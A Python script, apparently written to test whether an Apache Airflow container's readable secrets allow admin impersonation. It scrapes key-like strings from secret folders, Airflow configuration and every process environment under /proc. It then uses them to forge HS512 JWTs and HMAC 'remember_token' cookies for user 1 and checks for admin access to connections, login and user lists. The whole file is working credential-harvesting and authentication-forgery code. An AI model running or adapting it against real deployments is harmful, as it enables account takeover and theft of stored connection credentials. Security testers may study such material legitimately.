"""Tries to act as the first user, an Admin, with the keys that a container can read; run there by Python.

Usage: python - LINE [KEY ...]. Without a key, every text that looks like one counts: in the files of secrets, in
Airflow's configuration and in the environments of processes. Prints the number of keys, and those that opened a way.
"""

import hashlib
import hmac
import json
import os
import re
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import jwt

WEB = "http://web:8080"
USER = "1"
# A word of at least 20 characters that is not the name of an option or a path.
LOOKS_LIKE_KEY = re.compile(
    r"(?<![\w+/=-])(?![a-z_/-]+(?![\w+/=-]))[\w+/-]{20,100}={0,2}(?![\w+/=-])", re.ASCII
)
COMMENT = re.compile(r"(?m)^#.*$")  # the airflow.cfg that Airflow generates describes every option
OPTIONS = (("api", "secret_key"), ("api_auth", "jwt_secret"), ("webserver", "secret_key"))


class StayHere(urllib.request.HTTPRedirectHandler):
    """Does not follow redirects."""

    def redirect_request(self, *_: object) -> None:
        """Return no request."""
        return


opener = urllib.request.build_opener(StayHere)


def ask(path: str, **headers: str) -> tuple[int, str]:
    """Return the status and the cookies of an answer."""
    try:
        answer = opener.open(urllib.request.Request(WEB + path, headers=headers), timeout=300)
    except urllib.error.HTTPError as error:
        return error.status or 0, str(error.headers.get_all("Set-Cookie"))
    return answer.status, str(answer.headers.get_all("Set-Cookie"))


def opens_api(key: str) -> bool:
    """Whether a token that is signed with the key may read the connections: only Admin and Op may."""
    now = int(time.time())
    claims = {"sub": USER, "aud": "apache-airflow", "iat": now, "nbf": now, "exp": now + 600}
    token = jwt.encode(claims, key, algorithm="HS512")
    return ask("/api/v2/connections", Authorization=f"Bearer {token}")[0] == 200


def remembered_login(key: str) -> str:
    """Return the cookie of a login that the browser remembers, signed with the key."""
    return f"remember_token={USER}|" + hmac.new(key.encode(), USER.encode(), hashlib.sha512).hexdigest()


def opens_login(key: str) -> bool:
    """Whether the login page of 3.3 hands a token to the remembered user."""
    status, cookies = ask("/auth/login/", Cookie=remembered_login(key))
    return status == 302 and "_token=" in cookies


def opens_users(key: str) -> bool:
    """Whether the remembered user sees the list of users of 2.11: only an Admin does."""
    return ask("/users/list/", Cookie=remembered_login(key))[0] == 200


WAYS = {"3.3": (opens_api, opens_login), "2.11": (opens_users,)}


def readable_texts() -> Iterator[str]:
    """Yield what the container's user can read, and the keys as Airflow reads them."""
    from airflow.configuration import conf

    yield "\n".join(conf.get(*option, fallback="") for option in OPTIONS)
    folders = (Path("/secrets"), Path("/run/secrets"), Path(os.environ["AIRFLOW_HOME"]), Path.home())
    files = [path for folder in folders for path in folder.rglob("*") if path.suffix in ("", ".cfg", ".env")]
    for path in (*files, *Path("/proc").glob("[0-9]*/environ")):
        with suppress(OSError):
            text = path.read_bytes()[:1_000_000].decode(errors="ignore")
            yield COMMENT.sub("", text)


def main(line: str, *keys: str) -> None:
    """Try the keys, and print the result as JSON."""
    tried = keys or sorted({key for text in readable_texts() for key in LOOKS_LIKE_KEY.findall(text)})
    opened = {way.__name__: [key for key in tried if way(key)] for way in WAYS[line]}
    json.dump({"tried": tried, "opened": opened}, sys.stdout)


main(*sys.argv[1:])
